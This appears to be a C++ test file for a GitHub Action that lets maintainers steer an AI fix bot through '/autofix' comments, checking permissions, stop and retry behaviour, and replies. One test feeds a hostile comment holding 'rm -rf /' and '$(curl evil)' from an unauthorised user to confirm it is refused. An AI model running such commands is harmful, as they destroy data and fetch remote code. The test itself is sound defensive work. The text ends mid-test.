// Runs `/autofix` comment commands through the real binary in the workflow sandbox (issue_comment payloads
// as GitHub sends them): `retry` with guidance after an escalation makes exactly one more attempt whose
// prompt holds the guidance; `stop` keeps the next failing run from attempting; a user without write access
// gets one polite reply and nothing runs; a bot's command is ignored; `explain` on the pull request whose
// build failed finds its fix branch and replies from what the commits record.
#include "core/comment_commands.hpp"
#include "support/event_runs.hpp"
#include "support/hardening.hpp"
#include "support/readme_workflow.hpp"
#include "support/scripted_model.hpp"
#include "support/workflow_sandbox.hpp"

#include <algorithm>
#include <cctype>
#include <gtest/gtest.h>

namespace autofix {
namespace {

using nlohmann::json;
using testing::describe_runs;
using testing::RunOptions;
using testing::WorkflowRun;
using testing::WorkflowSandbox;

const std::string k_guidance = "The README note is noise; look at inventory/report.py instead.";

// An issue_comment payload (GitHub's webhook shape) for a comment by `login` on issue or pull request
// `number` carrying `labels`.
json comment_payload(std::uint64_t number, bool on_pull_request, const std::vector<std::string>& labels,
                     const std::string& login, const std::string& body, const std::string& type = "User") {
    json issue = {{"number", number},
                  {"title", "An issue"},
                  {"state", "open"},
                  {"labels", json::array()},
                  {"user", {{"login", "github-actions[bot]"}, {"type", "Bot"}}}};
    for (const std::string& label : labels) {
        issue["labels"].push_back({{"name", label}, {"color", "ededed"}});
    }
    if (on_pull_request) {
        issue["pull_request"] = {
            {"url", "https://api.github.com/repos/octo/inventory/pulls/" + std::to_string(number)}};
    }
    return json{{"action", "created"},
                {"issue", issue},
                {"comment",
                 {{"id", 2000000000 + number},
                  {"body", body},
                  {"html_url", "https://github.com/octo/inventory/issues/" + std::to_string(number) +
                                   "#issuecomment-" + std::to_string(2000000000 + number)},
                  {"user", {{"login", login}, {"type", type}}},
                  {"author_association", "CONTRIBUTOR"}}},
                {"repository", {{"full_name", "octo/inventory"}}},
                {"sender", {{"login", login}, {"type", type}}}};
}

// The comment workflow of README.md's "Talking to it" section.
YAML::Node comment_workflow() {
    return testing::readme_workflow("## Talking to it");
}

// Runs the comment workflow of README's "Talking to it" section for `payload` (on main, no build), with the
// inputs its job gives the action (the sandbox passes the model key); `extra` wins.
WorkflowRun run_comment(WorkflowSandbox& sandbox, json payload,
                        const std::map<std::string, std::string>& extra = {}) {
    RunOptions options;
    options.env["GITHUB_EVENT_NAME"] =
        payload.contains("issue") ? "issue_comment" : "pull_request_review_comment";
    options.payload = std::move(payload);
    options.env["INPUT_BUILD-STATUS"] = "";
    options.env["INPUT_FAILURE-LOG"] = "";
    options.env["GITHUB_WORKFLOW_REF"] =
        "octo/inventory/.github/workflows/autofix-commands.yml@refs/heads/main";
    for (const auto& [name, value] : testing::readme_job(comment_workflow(), "command").inputs) {
        if (value.find("${{") == std::string::npos) {
            std::string upper = name;
            std::transform(upper.begin(), upper.end(), upper.begin(),
                           [](unsigned char c) { return static_cast<char>(std::toupper(c)); });
            options.env["INPUT_" + upper] = value;
        }
    }
    for (const auto& [name, value] : extra) {
        options.env[name] = value;
    }
    return sandbox.run_workflow("main", options);
}

// The first request of every fix session (the ones with tools and a single message), in order.
std::vector<json> session_openings(WorkflowSandbox& sandbox) {
    std::vector<json> openings;
    for (const auto& request : sandbox.model().requests()) {
        const json body = json::parse(request.body, nullptr, false);
        if (body.is_object() && body.contains("tools") && body["messages"].size() == 1) {
            openings.push_back(body);
        }
    }
    return openings;
}

std::string fix_label_of(const std::string& fix_branch) {
    return fix_branch; // autonomous-fix-{id} is the branch's name and its PR's label
}

// Ends the CI run dispatched on `fix_branch` (the newest unfinished one) as GitHub would: completed with
// `conclusion`, one job `build-test` whose log is `log`; returns its id (0 when there is none).
std::uint64_t finish_fix_branch_ci(WorkflowSandbox& sandbox, const std::string& fix_branch,
                                   const std::string& conclusion, const std::string& log) {
    const auto runs = sandbox.github().workflow_runs();
    for (auto run = runs.rbegin(); run != runs.rend(); ++run) {
        if (run->head_branch == fix_branch && run->status != "completed") {
            sandbox.github().finish_workflow_run(run->id, conclusion);
            sandbox.github().add_run(run->id, {{"build-test", conclusion, log}});
            return run->id;
        }
    }
    return 0;
}

TEST(CommentCommands, TheReadmeWorkflowListensToCommentsWithThePermissionsItNeeds) {
    const YAML::Node workflow = comment_workflow();
    EXPECT_TRUE(workflow["on"]["issue_comment"]);
    EXPECT_TRUE(workflow["on"]["pull_request_review_comment"]);
    const YAML::Node job = workflow["jobs"]["command"];
    // The filter lets every comment mentioning the command through (the binary decides): a startsWith
    // filter would drop ` /autofix stop`, `- /autofix stop` and commands under a greeting without a reply.
    const std::string filter = job["if"].as<std::string>();
    EXPECT_NE(filter.find("contains(github.event.comment.body, '/autofix')"), std::string::npos) << filter;
    EXPECT_EQ(filter.find("startsWith(github.event.comment.body"), std::string::npos) << filter;
    for (const char* scope : {"contents", "pull-requests", "issues", "actions"}) {
        EXPECT_EQ(job["permissions"][scope].as<std::string>(), "write") << scope;
    }
    EXPECT_EQ(testing::readme_job(workflow, "command").inputs.count("build-status"), 0U);
}

TEST(CommentCommands, RetryWithGuidanceAfterAnEscalationMakesExactlyOneMoreAttempt) {
    testing::SandboxOptions options;
    options.env["INPUT_MAX-ATTEMPTS"] = "2";
    options.env["INPUT_STRONG-MODEL-FROM-ATTEMPT"] = "3";
    WorkflowSandbox sandbox(testing::scripted_fixer({testing::harmless_edit(1), testing::harmless_edit(2),
                                                     testing::harmless_edit(3), testing::harmless_edit(4)}),
                            options);
    sandbox.break_project("bug-simple.py", "inventory/report.py");
    const auto runs = sandbox.run_until_settled("main");
    ASSERT_EQ(runs.back().output("action-taken"), "escalated") << describe_runs(runs);
    const std::string fix_branch = runs.front().output("fix-branch");
    ASSERT_EQ(sandbox.github().issues().size(), 1U);
    const testing::FakeItem escalation = sandbox.github().issues()[0];
    ASSERT_EQ(session_openings(sandbox).size(), 2U);
    sandbox.github().set_collaborator("ada", "maintain");
    // The CI run dispatched on attempt 2 failed (the run that escalated read it).
    ASSERT_NE(finish_fix_branch_ci(sandbox, fix_branch, "failure", runs.back().build_log), 0U);

    const WorkflowRun retried =
        run_comment(sandbox, comment_payload(escalation.number, false, escalation.labels, "ada",
                                             "Thanks for trying.\n\n/autofix retry " + k_guidance));
    ASSERT_EQ(retried.exit_code, 0) << describe_runs({retried});
    EXPECT_EQ(retried.output("action-taken"), "command_retry") << describe_runs({retried});
    EXPECT_EQ(retried.output("case"), "2");
    EXPECT_EQ(retried.output("attempt"), "3");
    EXPECT_EQ(retried.output("model"), "claude-opus-4-5"); // past strong-model-from-attempt
    EXPECT_EQ(retried.output("fix-branch"), fix_branch);
    EXPECT_EQ(retried.result["action_taken"], "command_retry");

    // Exactly one more session, and its prompt holds the guidance as the maintainer's.
    const auto openings = session_openings(sandbox);
    ASSERT_EQ(openings.size(), 3U);
    const std::string prompt = openings.back()["messages"][0].dump();
    EXPECT_NE(prompt.find("Guidance from @ada"), std::string::npos) << prompt.substr(0, 3000);
    EXPECT_NE(prompt.find(k_guidance), std::string::npos);
    EXPECT_EQ(openings.back()["model"], "claude-opus-4-5");
    // CI is started on the fix branch with the CI workflow (ci-workflow), not the comment workflow.
    ASSERT_FALSE(sandbox.github().dispatches().empty());
    EXPECT_EQ(sandbox.github().dispatches().back().workflow, "test-and-autofix.yml");
    EXPECT_EQ(sandbox.github().dispatches().back().ref, fix_branch);

    // The attempt is on the branch with the command recorded; the reply says what happened.
    const std::string message = sandbox.origin_log(fix_branch + "~0", "%B");
    EXPECT_NE(message.find("Attempt 3: Note attempt 3 in the README"), std::string::npos) << message;
    EXPECT_NE(message.find("Autofix-Command: retry\nAutofix-Requested-By: ada"), std::string::npos)
        << message;
    const auto issue = sandbox.github().item(escalation.number);
    ASSERT_TRUE(issue);
    ASSERT_EQ(issue->comments.size(), 1U);
    EXPECT_NE(issue->comments[0].find("Attempt 3 with `claude-opus-4-5`"), std::string::npos)
        << issue->comments[0];

    // CI fails again on the fix branch: the retry allowed one attempt only, the issue exists: nothing more.
    const WorkflowRun after = sandbox.run_workflow(fix_branch);
    EXPECT_EQ(after.exit_code, 0) << describe_runs({after});
    EXPECT_EQ(after.output("action-taken"), "already_escalated") << describe_runs({after});
    EXPECT_EQ(session_openings(sandbox).size(), 3U);
}

TEST(CommentCommands, RetryAnswersTheFailedCiRunOfTheLastAttemptNotTheFailureItAnswered) {
    WorkflowSandbox sandbox(testing::scripted_fixer({testing::harmless_edit(1), testing::harmless_edit(2)}));
    sandbox.break_project("bug-simple.py", "inventory/report.py");
    const WorkflowRun first = sandbox.run_workflow("main");
    ASSERT_EQ(first.output("action-taken"), "fix_attempted") << describe_runs({first});
    const std::string fix_branch = first.output("fix-branch");
    const std::uint64_t issue = sandbox.github().add_issue("Autofix gave up", "", {fix_label_of(fix_branch)});
    sandbox.github().set_collaborator("ada", "write");
    ASSERT_EQ(session_openings(sandbox).size(), 1U);

    // CI on attempt 1 still runs: the retry waits for its result (it may pass) and asks nothing of the model.
    const WorkflowRun waiting = run_comment(sandbox, comment_payload(issue, false, {fix_label_of(fix_branch)},
                                                                     "ada", "/autofix retry " + k_guidance));
    ASSERT_EQ(waiting.exit_code, 0) << describe_runs({waiting});
    EXPECT_EQ(waiting.output("action-taken"), "command_refused") << describe_runs({waiting});
    EXPECT_EQ(waiting.result["failure_source"]["source"], "ci_running") << waiting.result.dump(2);
    EXPECT_EQ(session_openings(sandbox).size(), 1U);
    EXPECT_NE(sandbox.github().item(issue)->comments.back().find("has not finished"), std::string::npos)
        << sandbox.github().item(issue)->comments.back();

    // It fails with a new error, the one the maintainer read before asking again.
    const std::string new_error = "E   KeyError: 'warehouse-7' raised by inventory/report.py:12 in totals";
    const std::uint64_t ci_run =
        finish_fix_branch_ci(sandbox, fix_branch, "failure",
                             "Run pytest\nFAILED tests/test_report.py::test_totals\n" + new_error + "\n");
    ASSERT_NE(ci_run, 0U);
    const WorkflowRun retried = run_comment(sandbox, comment_payload(issue, false, {fix_label_of(fix_branch)},
                                                                     "ada", "/autofix retry " + k_guidance));
    ASSERT_EQ(retried.exit_code, 0) << describe_runs({retried});
    EXPECT_EQ(retried.output("action-taken"), "command_retry") << describe_runs({retried});
    EXPECT_EQ(retried.output("attempt"), "2");
    const auto openings = session_openings(sandbox);
    ASSERT_EQ(openings.size(), 2U);
    const std::string prompt = openings.back()["messages"][0].dump();
    EXPECT_NE(prompt.find("KeyError: 'warehouse-7'"), std::string::npos) << prompt.substr(0, 4000);
    EXPECT_NE(prompt.find(k_guidance), std::string::npos);
    const json source = retried.result["failure_source"];
    EXPECT_EQ(source["source"], "ci_run") << retried.result.dump(2);
    EXPECT_EQ(source["run_id"], ci_run);
    EXPECT_NE(retried.step_summary.find("**Failure answered:** the failed jobs of CI run " +
                                        std::to_string(ci_run)),
              std::string::npos)
        << retried.step_summary;
    // The attempt records the failure it answered: the next retry or explain reads the new error.
    EXPECT_NE(sandbox.origin_log(fix_branch + "~0", "%B").find("warehouse-7"), std::string::npos);
}

TEST(CommentCommands, ACancelledCiRunFallsBackToTheRecordedFailureAndSaysSo) {
    WorkflowSandbox sandbox(testing::scripted_fixer({testing::harmless_edit(1), testing::harmless_edit(2)}));
    sandbox.break_project("bug-simple.py", "inventory/report.py");
    const WorkflowRun first = sandbox.run_workflow("main");
    const std::string fix_branch = first.output("fix-branch");
    const std::uint64_t issue = sandbox.github().add_issue("Autofix gave up", "", {fix_label_of(fix_branch)});
    sandbox.github().set_collaborator("ada", "write");
    ASSERT_NE(finish_fix_branch_ci(sandbox, fix_branch, "cancelled", "The operation was canceled.\n"), 0U);

    const WorkflowRun retried = run_comment(
        sandbox, comment_payload(issue, false, {fix_label_of(fix_branch)}, "ada", "/autofix retry go on"));
    ASSERT_EQ(retried.exit_code, 0) << describe_runs({retried});
    EXPECT_EQ(retried.output("action-taken"), "command_retry") << describe_runs({retried});
    EXPECT_EQ(retried.result["failure_source"]["source"], "recorded") << retried.result.dump(2);
    EXPECT_NE(retried.result["failure_source"]["reason"].get<std::string>().find("ended cancelled"),
              std::string::npos);
    const std::string prompt = session_openings(sandbox).back()["messages"][0].dump();
    EXPECT_NE(prompt.find("NameError"), std::string::npos) << prompt.substr(0, 4000); // the recorded failure
    EXPECT_EQ(prompt.find("The operation was canceled"), std::string::npos);
}

TEST(CommentCommands, StopAndExplainNeedNoModelKeyOrModelConfiguration) {
    WorkflowSandbox sandbox(testing::scripted_fixer({testing::harmless_edit(1)}));
    sandbox.break_project("bug-simple.py", "inventory/report.py");
    const WorkflowRun first = sandbox.run_workflow("main");
    const std::string fix_branch = first.output("fix-branch");
    const std::uint64_t issue = sandbox.github().add_issue("Autofix gave up", "", {fix_label_of(fix_branch)});
    sandbox.github().set_collaborator("ada", "write");
    sandbox.github().set_collaborator("eve", "read");
    const std::size_t model_requests = sandbox.model().requests().size();
    // No key, and a model configuration that could not work: stop and explain do not care.
    const std::map<std::string, std::string> no_model = {{"INPUT_ANTHROPIC-API-KEY", ""},
                                                         {"INPUT_MODEL", "no-such-model"},
                                                         {"INPUT_PROMPTS", "missing/prompts.json"}};
    const auto comment = [&](const std::string& login, const std::string& body) {
        return comment_payload(issue, false, {fix_label_of(fix_branch)}, login, body);
    };

    const WorkflowRun explained = run_comment(sandbox, comment("ada", "/autofix explain"), no_model);
    ASSERT_EQ(explained.exit_code, 0) << describe_runs({explained});
    EXPECT_EQ(explained.output("action-taken"), "command_explained") << describe_runs({explained});
    const WorkflowRun unknown = run_comment(sandbox, comment("ada", "/autofix status"), no_model);
    EXPECT_EQ(unknown.output("action-taken"), "command_unknown") << describe_runs({unknown});
    const WorkflowRun refused = run_comment(sandbox, comment("eve", "/autofix stop"), no_model);
    EXPECT_EQ(refused.exit_code, 0) << describe_runs({refused});
    EXPECT_EQ(refused.output("action-taken"), "command_refused") << describe_runs({refused});

    // A retry does call the model: without its key it says so in a reply and fails the step (bad input).
    ASSERT_NE(finish_fix_branch_ci(sandbox, fix_branch, "failure", "E   NameError: name 'json'\n"), 0U);
    const WorkflowRun no_key = run_comment(sandbox, comment("ada", "/autofix retry go on"), no_model);
    EXPECT_EQ(no_key.exit_code, 2) << describe_runs({no_key});
    EXPECT_NE(sandbox.github().item(issue)->comments.back().find("anthropic-api-key is required"),
              std::string::npos)
        << sandbox.github().item(issue)->comments.back();

    const WorkflowRun stopped = run_comment(sandbox, comment("ada", "/autofix stop"), no_model);
    ASSERT_EQ(stopped.exit_code, 0) << describe_runs({stopped});
    EXPECT_EQ(stopped.output("action-taken"), "command_stopped") << describe_runs({stopped});
    EXPECT_NE(sandbox.origin_log(fix_branch + "~0", "%B").find("Autofix-Command: stop"), std::string::npos);
    EXPECT_EQ(sandbox.model().requests().size(), model_requests);
}

TEST(CommentCommands, StopKeepsTheNextFailingRunFromAttempting) {
    WorkflowSandbox sandbox(testing::scripted_fixer({testing::harmless_edit(1), testing::harmless_edit(2)}));
    sandbox.break_project("bug-simple.py", "inventory/report.py");
    const WorkflowRun first = sandbox.run_workflow("main");
    ASSERT_EQ(first.output("action-taken"), "fix_attempted") << describe_runs({first});
    const std::string fix_branch = first.output("fix-branch");
    // A fix pull request whose branch the issue comment's payload does not name: the binary asks the API.
    const std::uint64_t pull = sandbox.github().add_pull_request("Autonomous fix", fix_branch, "main");
    sandbox.github().set_collaborator("grace", "write");

    const WorkflowRun stopped =
        run_comment(sandbox, comment_payload(pull, true, {}, "grace", "/AUTOFIX   stop\n\n> /autofix retry"));
    ASSERT_EQ(stopped.exit_code, 0) << describe_runs({stopped});
    EXPECT_EQ(stopped.output("action-taken"), "command_stopped") << describe_runs({stopped});
    const std::string message = sandbox.origin_log(fix_branch + "~0", "%B");
    EXPECT_NE(message.find("Autofix-Kind: command\nAutofix-Command: stop\nAutofix-Requested-By: grace"),
              std::string::npos)
        << message;
    ASSERT_EQ(sandbox.github().item(pull)->comments.size(), 1U);
    EXPECT_NE(sandbox.github().item(pull)->comments[0].find("Stopped: no further fix attempts"),
              std::string::npos);
    EXPECT_TRUE(core::parse_comment_commands(sandbox.github().item(pull)->comments[0]).empty());
    // The stop ends this chain only; the reply says so and how to stop everything.
    const std::string reply = sandbox.github().item(pull)->comments[0];
    EXPECT_NE(reply.find("stops this fix chain only: a new failing build"), std::string::npos) << reply;
    EXPECT_NE(reply.find("`autofix-pause`"), std::string::npos) << reply;
    EXPECT_NE(reply.find("`enabled: false`"), std::string::npos) << reply;
    // The summary and the result JSON show the fix branch, not the checkout's branch, and link the comment
    // answered and the reply posted.
    const std::string answered = "https://github.com/octo/inventory/issues/" + std::to_string(pull) +
                                 "#issuecomment-" + std::to_string(2000000000 + pull);
    EXPECT_TRUE(stopped.result["branch"].is_null()) << stopped.result.dump(2);
    EXPECT_EQ(stopped.result["fix_branch"], fix_branch);
    EXPECT_EQ(stopped.result["comment"]["command"], "stop");
    EXPECT_EQ(stopped.result["comment"]["url"], answered);
    const std::string reply_url = stopped.result["comment"]["reply_url"].get<std::string>();
    EXPECT_NE(reply_url.find("/pull/" + std::to_string(pull) + "#issuecomment-"), std::string::npos)
        << reply_url;
    EXPECT_EQ(stopped.step_summary.find("| Branch | main |"), std::string::npos) << stopped.step_summary;
    EXPECT_NE(stopped.step_summary.find("| Fix branch | " + fix_branch + " |"), std::string::npos)
        << stopped.step_summary;
    EXPECT_NE(stopped.step_summary.find("| Comment answered | " + answered + " |"), std::string::npos)
        << stopped.step_summary;
    EXPECT_NE(stopped.step_summary.find("| Reply | " + reply_url + " |"), std::string::npos)
        << stopped.step_summary;

    // CI fails on the fix branch again: the run sees the stop and makes no attempt.
    const std::string head = testing::git_in(sandbox.origin_path(), {"rev-parse", fix_branch});
    const std::size_t sessions = session_openings(sandbox).size();
    const WorkflowRun next = sandbox.run_workflow(fix_branch);
    EXPECT_EQ(next.exit_code, 0) << describe_runs({next});
    EXPECT_EQ(next.output("action-taken"), "stopped_by_command") << describe_runs({next});
    EXPECT_EQ(next.result["action_taken"], "stopped_by_command");
    EXPECT_NE(next.step_summary.find("@grace commented `/autofix stop`"), std::string::npos)
        << next.step_summary;
    EXPECT_EQ(session_openings(sandbox).size(), sessions);
    EXPECT_EQ(testing::git_in(sandbox.origin_path(), {"rev-parse", fix_branch}), head);
}

TEST(CommentCommands, RetryAfterAHumanCommitBuildsOnItAndNeedsTheCiWorkflow) {
    WorkflowSandbox sandbox(testing::scripted_fixer({testing::harmless_edit(1), testing::harmless_edit(2)}));
    sandbox.break_project("bug-simple.py", "inventory/report.py");
    const WorkflowRun first = sandbox.run_workflow("main");
    const std::string fix_branch = first.output("fix-branch");
    const std::string human = sandbox.commit_as_human(fix_branch, "NOTES.md", "tried something\n");
    const WorkflowRun stopped = sandbox.run_workflow(fix_branch);
    ASSERT_EQ(stopped.output("action-taken"), "human_took_over") << describe_runs({stopped});
    const std::uint64_t pull = sandbox.github().add_pull_request("Autonomous fix", fix_branch, "main", "open",
                                                                 {fix_label_of(fix_branch)});
    sandbox.github().set_collaborator("ada", "admin");
    const std::size_t sessions = session_openings(sandbox).size();

    // Without ci-workflow the attempt could be pushed but never tested: refused before the model is asked.
    const WorkflowRun refused = run_comment(
        sandbox, comment_payload(pull, true, {fix_label_of(fix_branch)}, "ada", "/autofix retry go on"),
        {{"INPUT_CI-WORKFLOW", ""}});
    EXPECT_EQ(refused.output("action-taken"), "command_refused") << describe_runs({refused});
    EXPECT_NE(sandbox.github().item(pull)->comments.back().find("`ci-workflow`"), std::string::npos);
    EXPECT_EQ(session_openings(sandbox).size(), sessions);
    EXPECT_NE(refused.stdout_text.find("command_refused: no retry: the ci-workflow input is not set"),
              std::string::npos)
        << refused.stdout_text;
    EXPECT_NE(refused.step_summary.find("**Why:** no retry: the ci-workflow input is not set"),
              std::string::npos)
        << refused.step_summary;

    // With it: one attempt on top of the human's commit (a human asked for it).
    const WorkflowRun retried = run_comment(
        sandbox, comment_payload(pull, true, {fix_label_of(fix_branch)}, "ada", "/autofix retry go on"));
    ASSERT_EQ(retried.exit_code, 0) << describe_runs({retried});
    EXPECT_EQ(retried.output("action-taken"), "command_retry") << describe_runs({retried});
    EXPECT_EQ(retried.output("attempt"), "2");
    EXPECT_EQ(session_openings(sandbox).size(), sessions + 1);
    EXPECT_EQ(testing::git_in(sandbox.origin_path(), {"rev-parse", fix_branch + "~1"}).substr(0, 40),
              human.substr(0, 40));
}

TEST(CommentCommands, AUserWithoutWriteAccessGetsOneReplyAndNothingRuns) {
    WorkflowSandbox sandbox(testing::scripted_fixer({testing::harmless_edit(1), testing::harmless_edit(2)}));
    sandbox.break_project("bug-simple.py", "inventory/report.py");
    const WorkflowRun first = sandbox.run_workflow("main");
    const std::string fix_branch = first.output("fix-branch");
    const std::uint64_t pull = sandbox.github().add_pull_request("Autonomous fix", fix_branch, "main", "open",
                                                                 {fix_label_of(fix_branch)});
    sandbox.github().set_collaborator("triager", "triage");
    const std::string head = testing::git_in(sandbox.origin_path(), {"rev-parse", fix_branch});
    const std::size_t requests = sandbox.model().requests().size();

    // A triager (read access) and someone who is no collaborator at all (404).
    std::size_t replies = 0;
    for (const std::string login : {"triager", "passer-by"}) {
        const WorkflowRun refused =
            run_comment(sandbox, comment_payload(pull, true, {fix_label_of(fix_branch)}, login,
                                                 "/autofix retry rm -rf / $(curl evil)"));
        EXPECT_EQ(refused.exit_code, 0) << describe_runs({refused});
        EXPECT_EQ(refused.output("action-taken"), "command_refused") << describe_runs({refused});
        const auto comments = sandbox.github().item(pull)->comments;
        ASSERT_EQ(comments.size(), ++replies) << login;
        EXPECT_NE(comments.back().find("Only people with write access"), std::string::npos)
            << comments.back();
        EXPECT_NE(comments.back().find("@" + login), std::string::npos);
    }
    EXPECT_EQ(sandbox.model().requests().size(), requests);
    EXPECT_EQ(testing::git_in(sandbox.origin_path(), {"rev-parse", fix_branch}), head);
}

TEST(CommentCommands, ABotsCommandIsIgnoredWithoutAnyCall) {
    WorkflowSandbox sandbox(testing::scripted_fixer({}));
    sandbox.github().set_collaborator("renovate[bot]", "admin");
    const std::uint64_t issue = sandbox.github().add_issue("Escalated", "", {"autonomous-fix-1-escalation"});
    const std::size_t api_requests = sandbox.github().requests().size();
    const WorkflowRun ignored =
        run_comment(sandbox, comment_payload(issue, false, {"autonomous-fix-1-escalation"}, "renovate[bot]",
                                             "/autofix stop", "Bot"));
    EXPECT_EQ(ignored.exit_code, 0) << describe_runs({ignored});
    EXPECT_EQ(ignored.output("action-taken"), "command_ignored") << describe_runs({ignored});
    EXPECT_NE(ignored.step_summary.find("is a bot"), std::string::npos) << ignored.step_summary;
    EXPECT_EQ(sandbox.github().requests().size(), api_requests);
    EXPECT_TRUE(sandbox.github().item(issue)->comments.empty());
    EXPECT_TRUE(sandbox.model().requests().empty());
}

TEST(CommentCommands, ExplainOnThePullRequestWhoseBuildFailedAnswersFromTheCommits) {
    WorkflowSandbox sandbox(testing::scripted_fixer({testing::harmless_edit(1)}));
    sandbox.break_project("bug-simple.py", "inventory/report.py", "feature");
    const WorkflowRun first = sandbox.run_workflow("feature");
    ASSERT_EQ(first.output("action-taken"), "fix_attempted") << describe_runs({first});
    const std::string fix_branch = first.output("fix-branch");
    const std::uint64_t pull = sandbox.github().add_pull_request("Add a feature", "feature", "main");
    sandbox.github().set_collaborator("ada", "admin");
    const std::size_t requests = sandbox.model().requests().size();

    const WorkflowRun explained =
        run_comment(sandbox, comment_payload(pull, true, {}, "ada", "/autofix explain"));
    ASSERT_EQ(explained.exit_code, 0) << describe_runs({explained});
    EXPECT_EQ(explained.output("action-taken"), "command_explained") << describe_runs({explained});
    EXPECT_EQ(explained.output("fix-branch"), fix_branch);
    EXPECT_EQ(sandbox.model().requests().size(), requests); // from the commits: no model call
    const auto comments = sandbox.github().item(pull)->comments;
    ASSERT_EQ(comments.size(), 1U);
    const std::string& reply = comments[0];
    EXPECT_NE(reply.find("### Attempt 1 on `" + fix_branch + "`"), std::string::npos) << reply;
    EXPECT_NE(reply.find("The failure it answered"), std::string::npos) << reply;
    EXPECT_NE(reply.find("NameError"), std::string::npos) << reply; // bug-simple's failure
    EXPECT_NE(reply.find("- `README.md` (+2"), std::string::npos) << reply;
    EXPECT_NE(reply.find("Scripted: Note attempt 1 in the README"), std::string::npos) << reply;
    EXPECT_TRUE(core::parse_comment_commands(reply).empty()) << "the reply would command the action";

    // An unknown subcommand gets the list of commands.
    const WorkflowRun unknown =
        run_comment(sandbox, comment_payload(pull, true, {}, "ada", "/autofix fix-it-all"));
    EXPECT_EQ(unknown.output("action-taken"), "command_unknown") << describe_runs({unknown});
    EXPECT_NE(sandbox.github().item(pull)->comments.back().find("/autofix retry <guidance>"),
              std::string::npos);
    EXPECT_NE(sandbox.github().item(pull)->comments.back().find("post a new comment"), std::string::npos);
    EXPECT_NE(unknown.stdout_text.find("autofix: /autofix fix-it-all from @ada"), std::string::npos)
        << unknown.stdout_text;
    EXPECT_NE(unknown.stdout_text.find("command_unknown: /autofix fix-it-all is not a command"),
              std::string::npos)
        << unknown.stdout_text;
    EXPECT_EQ(unknown.result["comment"]["command"], "fix-it-all");
}

// Every refusal of a retry says why, on stdout and in the summary: a spent budget, a closed fix PR.
TEST(CommentCommands, ARefusedRetrySaysWhy) {
    WorkflowSandbox sandbox(testing::scripted_fixer({testing::harmless_edit(1), testing::harmless_edit(2)}));
    sandbox.break_project("bug-simple.py", "inventory/report.py");
    const WorkflowRun first = sandbox.run_workflow("main");
    ASSERT_EQ(first.output("action-taken"), "fix_attempted") << describe_runs({first});
    const std::string fix_branch = first.output("fix-branch");
    const std::uint64_t pull = sandbox.github().add_pull_request("Autonomous fix", fix_branch, "main", "open",
                                                                 {fix_label_of(fix_branch)});
    sandbox.github().set_collaborator("ada", "admin");
    const json payload =
        comment_payload(pull, true, {fix_label_of(fix_branch)}, "ada", "/autofix retry again");
    const std::size_t sessions = session_openings(sandbox).size();

    const WorkflowRun broke = run_comment(sandbox, payload, {{"INPUT_MAX-COST-USD", "0.000001"}});
    EXPECT_EQ(broke.output("action-taken"), "command_refused") << describe_runs({broke});
    EXPECT_NE(broke.stdout_text.find("command_refused: no retry: "), std::string::npos) << broke.stdout_text;
    EXPECT_NE(broke.step_summary.find("**Why:** no retry: "), std::string::npos) << broke.step_summary;
    EXPECT_NE(sandbox.github().item(pull)->comments.back().find("max-cost-usd"), std::string::npos);

    sandbox.github().close_pull_request(pull);
    const WorkflowRun closed = run_comment(sandbox, payload);
    EXPECT_EQ(closed.output("action-taken"), "command_refused") << describe_runs({closed});
    EXPECT_NE(closed.stdout_text.find("command_refused: no retry: "), std::string::npos)
        << closed.stdout_text;
    EXPECT_NE(closed.step_summary.find("**Why:** no retry: "), std::string::npos) << closed.step_summary;
    EXPECT_NE(closed.result["comment"]["reply_url"].get<std::string>().find("#issuecomment-"),
              std::string::npos);
    EXPECT_EQ(session_openings(sandbox).size(), sessions);
}

TEST(CommentCommands, AReviewCommentOnThePullRequestWhoseBuildFailedStopsItsFix) {
    WorkflowSandbox sandbox(testing::scripted_fixer({testing::harmless_edit(1), testing::harmless_edit(2)}));
    sandbox.break_project("bug-simple.py", "inventory/report.py", "feature");
    const std::uint64_t pr = sandbox.github().add_pull_request("Stock reports", "feature", "main");
    sandbox.make_pull_request_refs(static_cast<int>(pr), "feature", "main");
    const WorkflowRun first =
        sandbox.run_workflow("feature", testing::pull_request_run(sandbox, pr, "feature"));
    ASSERT_EQ(first.output("action-taken"), "fix_attempted") << describe_runs({first});
    const std::string fix_branch = first.output("fix-branch");
    sandbox.github().set_collaborator("ada", "write");
    const std::size_t comments = sandbox.github().item(pr)->comments.size(); // the progress comment
    const std::uint64_t review_comment = sandbox.github().add_review_comment(pr);

    // pull_request_review_comment: the payload names the pull request and its branch (GitHub's shape).
    const json review = {{"action", "created"},
                         {"comment",
                          {{"id", review_comment},
                           {"path", "inventory/report.py"},
                           {"body", "```\n/autofix retry\n```\nWe do not want that.\n/autofix stop"},
                           {"user", {{"login", "ada"}, {"type", "User"}}}}},
                         {"pull_request",
                          {{"number", pr},
                           {"state", "open"},
                           {"labels", json::array()},
                           {"head", {{"ref", "feature"}, {"repo", {{"full_name", "octo/inventory"}}}}},
                           {"base", {{"ref", "main"}, {"repo", {{"full_name", "octo/inventory"}}}}}}},
                         {"repository", {{"full_name", "octo/inventory"}}},
                         {"sender", {{"login", "ada"}, {"type", "User"}}}};
    const WorkflowRun stopped = run_comment(sandbox, review);
    ASSERT_EQ(stopped.exit_code, 0) << describe_runs({stopped});
    EXPECT_EQ(stopped.output("action-taken"), "command_stopped") << describe_runs({stopped});
    EXPECT_EQ(stopped.output("fix-branch"), fix_branch);
    EXPECT_NE(stopped.stdout_text.find("the fix of pull request #" + std::to_string(pr)), std::string::npos)
        << stopped.stdout_text;
    // The reply goes into the review thread, not the pull request's conversation.
    EXPECT_EQ(sandbox.github().item(pr)->comments.size(), comments);
    const auto thread = sandbox.github().item(pr)->review_replies;
    ASSERT_EQ(thread.size(), 1U);
    EXPECT_EQ(thread[0].first, review_comment);
    EXPECT_NE(thread[0].second.find("Stopped"), std::string::npos) << thread[0].second;
    EXPECT_NE(stopped.result["comment"]["reply_url"].get<std::string>().find("#discussion_r"),
              std::string::npos)
        << stopped.result.dump(2);

    // A thread GitHub will not take a reply in (the review comment is gone): the conversation gets it.
    json gone = review;
    gone["comment"]["id"] = review_comment + 99;
    const WorkflowRun again = run_comment(sandbox, gone);
    EXPECT_EQ(again.exit_code, 0) << describe_runs({again});
    EXPECT_NE(again.stdout_text.find("Could not reply in the review thread"), std::string::npos)
        << again.stdout_text;
    ASSERT_EQ(sandbox.github().item(pr)->comments.size(), comments + 1);
    EXPECT_NE(sandbox.github().item(pr)->comments.back().find("already stopped"), std::string::npos);
    EXPECT_EQ(sandbox.github().item(pr)->review_replies.size(), 1U);

    const std::size_t sessions = session_openings(sandbox).size();
